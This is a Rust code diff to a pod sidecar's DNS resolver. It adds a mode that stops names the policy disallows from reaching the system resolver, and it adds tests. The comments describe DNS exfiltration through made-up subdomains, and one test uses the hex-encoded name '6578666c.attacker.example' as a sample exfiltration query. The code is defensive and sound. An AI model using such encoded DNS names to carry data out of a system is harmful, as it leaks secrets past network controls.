@@ -40,6 +40,35 @@ pub enum ResolveError {
         /// The host name.
         host: String,
     },
+    /// The policy does not let the pod look the name up, so the sidecar
+    /// does not either (see [`Lookup`]).
+    #[error("not looked up: the policy does not allow looking up {host}")]
+    NotAllowed {
+        /// The host name.
+        host: String,
+    },
+}
+
+/// Whether a name a client gave may be sent to the system resolver. A
+/// lookup leaves the pod as a DNS query whoever makes it: a made-up
+/// `<data>.attacker.example` carries data out in the query itself, even
+/// when the connection that named it is refused. So the sidecar looks up
+/// only what the pod's own query would be answered for
+/// (`policy::may_look_up`); otherwise only a hosts-file entry, an IP
+/// literal or the DNS answers the pod already received are used.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Lookup {
+    /// The system resolver may be asked.
+    Allowed,
+    /// Only what is known without a query.
+    Known,
+}
+
+impl Lookup {
+    /// [`Lookup::Allowed`] when `allowed`, else [`Lookup::Known`].
+    pub fn allowed_if(allowed: bool) -> Self {
+        if allowed { Self::Allowed } else { Self::Known }
+    }
 }
 
 /// Parses a hosts file: `name ip` or `ip name...` per line (whichever token
@@ -254,9 +283,22 @@ impl Resolver {
 
     /// Resolves `host:port` to its first address, using the system resolver
     /// last (its answers are reused for [`DNS_CACHE_TTL`]).
-    pub async fn resolve(&self, host: &str, port: u16) -> Result<SocketAddr, ResolveError> {
+    pub async fn resolve(
+        &self,
+        host: &str,
+        port: u16,
+        lookup: Lookup,
+    ) -> Result<SocketAddr, ResolveError> {
         if let Some(addr) = self.resolve_static(host, port) {
             return Ok(addr);
+        }
+        if lookup == Lookup::Known {
+            return match self.pod.get(&host.to_ascii_lowercase()).first() {
+                Some(&ip) => Ok(SocketAddr::new(ip, port)),
+                None => Err(ResolveError::NotAllowed {
+                    host: host.to_owned(),
+                }),
+            };
         }
         let ips = self.lookup(host).await?;
         Ok(SocketAddr::new(ips[0], port))
@@ -285,10 +327,16 @@ impl Resolver {
     /// when the pod's own DNS answers already hold `dst` (the usual case once
     /// the pod's DNS goes through the sidecar), they are the answer, with no
     /// lookup of the sidecar's own on the request's path.
-    pub async fn addresses_reaching(&self, host: &str, dst: IpAddr) -> Arc<[IpAddr]> {
+    /// With [`Lookup::Known`], no lookup at all: the pod's answers alone.
+    pub async fn addresses_reaching(
+        &self,
+        host: &str,
+        dst: IpAddr,
+        lookup: Lookup,
+    ) -> Arc<[IpAddr]> {
         if self.resolve_static(host, 0).is_none() {
             let pod = self.pod.get(&host.to_ascii_lowercase());
-            if pod.contains(&dst) {
+            if pod.contains(&dst) || lookup == Lookup::Known {
                 return pod.into();
             }
         }
@@ -409,7 +457,11 @@ mod tests {
         }
         // Then the cache answers, and nothing stays in flight.
         assert_eq!(
-            resolver.resolve("pool.example", 443).await.unwrap().port(),
+            resolver
+                .resolve("pool.example", 443, Lookup::Allowed)
+                .await
+                .unwrap()
+                .port(),
             443
         );
         assert_eq!(calls.load(Ordering::SeqCst), 1);
@@ -428,8 +480,10 @@ mod tests {
         let gate = Arc::new(tokio::sync::Semaphore::new(0));
         let (resolver, calls) = gated(gate.clone(), fail_first);
         let (a, b) = (resolver.clone(), resolver.clone());
-        let first = tokio::spawn(async move { a.resolve("pool.example", 80).await });
-        let second = tokio::spawn(async move { b.resolve("pool.example", 80).await });
+        let first =
+            tokio::spawn(async move { a.resolve("pool.example", 80, Lookup::Allowed).await });
+        let second =
+            tokio::spawn(async move { b.resolve("pool.example", 80, Lookup::Allowed).await });
         settle().await;
         gate.add_permits(3);
         for failed in [first.await.unwrap(), second.await.unwrap()] {
@@ -438,9 +492,17 @@ mod tests {
         }
         assert_eq!(calls.load(Ordering::SeqCst), 1);
         // A failure is not kept: the next request looks the name up again.
-        let e = resolver.resolve("pool.example", 80).await.unwrap_err();
+        let e = resolver
+            .resolve("pool.example", 80, Lookup::Allowed)
+            .await
+            .unwrap_err();
         assert!(matches!(e, ResolveError::NoAddress { .. }), "{e}");
-        assert!(resolver.resolve("pool.example", 80).await.is_ok());
+        assert!(
+            resolver
+                .resolve("pool.example", 80, Lookup::Allowed)
+                .await
+                .is_ok()
+        );
         assert_eq!(calls.load(Ordering::SeqCst), 3);
     }
 
@@ -497,12 +559,22 @@ mod tests {
     #[tokio::test]
     async fn system_answers_are_cached() {
         let resolver = Resolver::default();
-        let first = resolver.resolve("LocalHost", 80).await.unwrap();
+        let first = resolver
+            .resolve("LocalHost", 80, Lookup::Allowed)
+            .await
+            .unwrap();
         assert!(first.ip().is_loopback());
         assert!(resolver.cached("localhost").unwrap().contains(&first.ip()));
         assert!(resolver.addresses("LOCALHOST").await.contains(&first.ip()));
         assert!(resolver.addresses("no-such-name.invalid").await.is_empty());
-        assert_eq!(resolver.resolve("localhost", 81).await.unwrap().port(), 81);
+        assert_eq!(
+            resolver
+                .resolve("localhost", 81, Lookup::Allowed)
+                .await
+                .unwrap()
+                .port(),
+            81
+        );
     }
 
     #[tokio::test]
@@ -525,11 +597,11 @@ mod tests {
         assert!(both.contains(&ip("10.66.0.3")), "{both:?}");
         // The pod's answer reaching the destination is enough: no lookup.
         let pod_only = resolver
-            .addresses_reaching("localhost", ip("10.66.0.3"))
+            .addresses_reaching("localhost", ip("10.66.0.3"), Lookup::Allowed)
             .await;
         assert_eq!(&pod_only[..], &[ip("10.66.0.3")]);
         let other = resolver
-            .addresses_reaching("localhost", ip("127.0.0.1"))
+            .addresses_reaching("localhost", ip("127.0.0.1"), Lookup::Allowed)
             .await;
         assert!(other.contains(&ip("127.0.0.1")), "{other:?}");
     }
@@ -593,11 +665,59 @@ mod tests {
     async fn resolves_statically_first() {
         let r = Resolver::new(parse_hosts("api 10.0.0.1").unwrap());
         let addr = |s: &str| s.parse::<SocketAddr>().unwrap();
-        assert_eq!(r.resolve("API", 80).await.unwrap(), addr("10.0.0.1:80"));
         assert_eq!(
-            r.resolve("127.0.0.1", 81).await.unwrap(),
+            r.resolve("API", 80, Lookup::Allowed).await.unwrap(),
+            addr("10.0.0.1:80")
+        );
+        assert_eq!(
+            r.resolve("127.0.0.1", 81, Lookup::Allowed).await.unwrap(),
             addr("127.0.0.1:81")
         );
-        assert_eq!(r.resolve("[::1]", 82).await.unwrap(), addr("[::1]:82"));
+        assert_eq!(
+            r.resolve("[::1]", 82, Lookup::Allowed).await.unwrap(),
+            addr("[::1]:82")
+        );
+    }
+
+    /// A name the policy does not let the pod look up is never sent to the
+    /// system resolver: only the pod's own answers and what needs no query
+    /// (IP literals) are used, and a name neither knows does not resolve.
+    #[tokio::test]
+    async fn a_name_not_allowed_is_never_looked_up() {
+        let gate = Arc::new(tokio::sync::Semaphore::new(100));
+        let (resolver, calls) = gated(gate, ten);
+        let ip = |s: &str| s.parse::<IpAddr>().unwrap();
+        let exfil = "6578666c.attacker.example";
+        let e = (resolver.resolve(exfil, 443, Lookup::Known).await).unwrap_err();
+        assert!(matches!(e, ResolveError::NotAllowed { .. }), "{e}");
+        let dst = ip("10.0.0.1");
+        assert!((resolver.addresses_reaching(exfil, dst, Lookup::Known).await).is_empty());
+        assert_eq!(
+            resolver
+                .resolve("10.0.0.9", 80, Lookup::Known)
+                .await
+                .unwrap(),
+            "10.0.0.9:80".parse().unwrap()
+        );
+        resolver
+            .pod_answers()
+            .insert("pypi.org", &[(ip("10.0.0.7"), 60)]);
+        assert_eq!(
+            resolver
+                .resolve("PyPI.org", 443, Lookup::Known)
+                .await
+                .unwrap(),
+            "10.0.0.7:443".parse().unwrap()
+        );
+        assert_eq!(
+            &resolver
+                .addresses_reaching("pypi.org", dst, Lookup::Known)
+                .await[..],
+            &[ip("10.0.0.7")],
+            "the pod's answers, not a lookup, even when they miss the destination"
+        );
+        assert_eq!(calls.load(Ordering::SeqCst), 0, "no system lookup");
+        resolver.resolve(exfil, 443, Lookup::Allowed).await.unwrap();
+        assert_eq!(calls.load(Ordering::SeqCst), 1, "looked up when allowed");
     }
 }
